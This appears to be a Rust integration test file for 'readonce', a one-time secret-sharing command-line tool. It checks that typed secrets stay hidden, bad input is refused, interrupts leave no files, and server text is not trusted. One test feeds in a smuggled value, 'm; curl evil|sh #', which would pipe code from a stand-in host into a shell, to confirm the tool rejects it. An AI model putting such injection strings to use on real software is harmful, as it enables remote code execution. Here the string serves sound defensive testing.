//! What is typed at a prompt: shared as it is or refused, and never shown.

use crate::fake::{Does, Fake};
use crate::pty::Pty;
use crate::support::Cli;
use readonce_tests::app::TestApp;
use rustix::process::{Pid, Signal, kill_process};

const PROMPT: &str = "Secret (one line, not shown): ";

/// Types bytes at the prompt of `readonce share`, and answers with the exit
/// code, what was seen, and what the server was sent.
async fn shared(typed: impl AsRef<[u8]> + Send + 'static) -> (i32, String, Vec<String>) {
    shared_by("readonce share", typed).await
}

async fn shared_by(
    line: &'static str,
    typed: impl AsRef<[u8]> + Send + 'static,
) -> (i32, String, Vec<String>) {
    let created = "{\"metadata_key\":\"m\",\"secret_key\":\"s\"}";
    let fake = Fake::start(&[Does::Answers(200, "", created)]).await;
    let cli = Cli::at(&fake.origin);
    let (code, seen) = tokio::task::spawn_blocking(move || {
        let mut share = Pty::start(&cli, line);
        share.sees(PROMPT);
        share.types(typed);
        share.ends()
    })
    .await
    .unwrap();
    (code, seen, fake.requests())
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_typed_as_soon_as_the_prompt_appears_is_shown() {
    let lines = ["readonce share", "readonce share --file -"];
    for line in lines.iter().cycle().take(20) {
        let (code, seen, requests) = shared_by(line, "hunter2 Zażółć\n").await;
        assert!(code == 0 && !seen.contains("hunter2"), "{seen}");
        assert!(requests[0].ends_with("secret=hunter2+Za%C5%BC%C3%B3%C5%82%C4%87"), "{}", requests[0]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn characters_that_a_prompt_would_change_are_refused() {
    let long = [vec![b'x'; 5_000], vec![b'\n']].concat();
    for (typed, problem) in [
        (b"hun\tter2\n".to_vec(), "a control character"),
        (b"\x1b[Axyz\n".to_vec(), "a control character"),
        (b"hun\x1ater2\n".to_vec(), "a control character"),
        (b"hun\xffter2\n".to_vec(), "not valid UTF-8"),
        (b"\x04".to_vec(), "ended before the line did"),
        (long, "longer than the terminal takes"),
    ] {
        let (code, seen, requests) = shared(typed).await;
        assert!(code == 5 && seen.contains(problem) && !seen.contains("ter2"), "{seen}");
        assert!(requests.is_empty());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_paste_without_a_last_line_end_is_refused_whole() {
    let (code, seen, requests) = shared("line1\nline2").await;
    assert!(code == 5 && seen.contains("more than one line was pasted"), "{seen}");
    assert!(!seen.contains("line1") && !seen.contains("line2"), "{seen}");
    assert!(requests.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn ctrl_c_at_a_prompt_leaves_the_terminal_as_it_was() {
    let (code, seen, requests) = shared("hunter2\x03").await;
    assert!(code == 130 && !seen.contains("hunter2"), "{seen}");
    assert!(requests.is_empty());
}

/// Does something while a server that never answers is waited for, and answers
/// with the exit code, what was seen, and whether the file `key` is there.
async fn during_a_call(line: &'static str, does: fn(&mut Pty, &Cli)) -> (i32, String, bool) {
    let fake = Fake::start(&[Does::Hangs]).await;
    let cli = Cli::at(&fake.origin);
    let ended = tokio::task::spawn_blocking(move || {
        let mut get = Pty::start(&cli, line);
        get.sees("Waiting for ");
        does(&mut get, &cli);
        let (code, seen) = get.ends();
        (code, seen, cli.path("key").exists())
    });
    let ended = ended.await.unwrap();
    assert_eq!(fake.requests().len(), 1);
    ended
}

#[tokio::test(flavor = "multi_thread")]
async fn ctrl_c_during_a_call_tells_the_possible_outcome_and_leaves_no_file() {
    let line = "readonce get --yes --output key abc";
    let (code, seen, is_left) = during_a_call(line, |get, _| get.types("\x03")).await;
    assert!(code == 130 && seen.contains("may be used up all the same") && !is_left, "{seen}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_terminal_that_goes_away_leaves_no_file() {
    let line = "sh -c 'echo \"$$\" >pid; exec readonce get --yes --output key abc'";
    let hang_up = |_: &mut Pty, cli: &Cli| {
        let pid = std::fs::read_to_string(cli.path("pid")).unwrap().trim().parse().unwrap();
        kill_process(Pid::from_raw(pid).unwrap(), Signal::HUP).unwrap();
    };
    let (code, seen, is_left) = during_a_call(line, hang_up).await;
    assert!(code == 129 && seen.contains("may be used up all the same") && !is_left, "{seen}");
}

#[tokio::test(flavor = "multi_thread")]
async fn an_ignored_signal_stays_ignored() {
    let line = "(trap '' INT; exec readonce get --yes --timeout 4 abc)";
    let (code, seen, _) = during_a_call(line, |get, _| get.types("\x03")).await;
    assert!(code == 7 && seen.contains("the time is up"), "{seen}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_missing_link_is_asked_for_and_its_host_is_shown() {
    let app = TestApp::start().await;
    let cli = Cli::at(app.origin());
    let passphrase = cli.write("passphrase", "pass phrase");
    let host = app.origin().replace("http://", "");
    for command in ["readonce get", "readonce get -", "readonce get <link"] {
        let (key, link) = cli.shared_with_key("correct horse", &["--passphrase-file", &passphrase]).await;
        let copy = Cli::at(app.origin());
        copy.write("link", format!("{link}\n"));
        let host = host.clone();
        tokio::task::spawn_blocking(move || {
            let mut get = Pty::start(&copy, command);
            if !command.contains('<') {
                get.sees("Link or key (not shown): ");
                get.types(format!("{link}\n"));
            }
            get.sees(&format!("Reveal it from {host} now? [y/N] "));
            get.types("y\n");
            get.sees(&format!("Passphrase for {host} (not shown; empty to give up): "));
            get.types("pass phrase\n");
            let (code, seen) = get.ends();
            assert!(code == 0 && seen.ends_with("correct horse\r\n") && !seen.contains(&link), "{seen}");
            let mut receipt = Pty::start(&copy, "readonce receipt");
            receipt.sees("Link or key (not shown): ");
            receipt.types(format!("{key}\n"));
            let (code, seen) = receipt.ends();
            assert!(code == 0 && seen.contains("State:       opened, ") && !seen.contains(&key), "{seen}");
        })
        .await
        .unwrap();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_printed_commands_are_complete_and_contain_no_text_of_the_server() {
    for (key, expected) in [("m", 0), ("m; curl evil|sh #", 7)] {
        let body = format!("{{\"metadata_key\":\"{key}\",\"secret_key\":\"s\"}}");
        let fake = Fake::start(&[Does::Answers(200, "", body.leak())]).await;
        let cli = Cli::new();
        let line =
            format!("echo x | readonce share --server {} --insecure-http --config /dev/null", fake.origin);
        let (code, seen) = tokio::task::spawn_blocking(move || Pty::start(&cli, &line).ends()).await.unwrap();
        let follows =
            format!("readonce --config /dev/null --server {} --insecure-http receipt m ", fake.origin);
        assert!(code == expected && seen.contains(&follows) == (code == 0), "{seen}");
        assert!(!seen.contains("evil"), "{seen}");
    }
}
